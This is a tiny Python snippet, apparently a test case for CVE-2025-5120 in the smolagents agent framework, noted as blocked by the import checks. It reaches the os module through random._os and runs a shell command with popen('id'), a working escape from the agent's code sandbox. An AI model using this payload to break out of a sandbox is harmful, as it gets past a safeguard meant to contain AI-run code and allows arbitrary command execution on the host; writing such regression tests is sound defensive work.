# goal: smolagents CVE-2025-5120: a dangerous module as an attribute of an authorised one
# stopped by: imports
import random
LEAKED = [random._os.popen('id').read()]
LEAKED
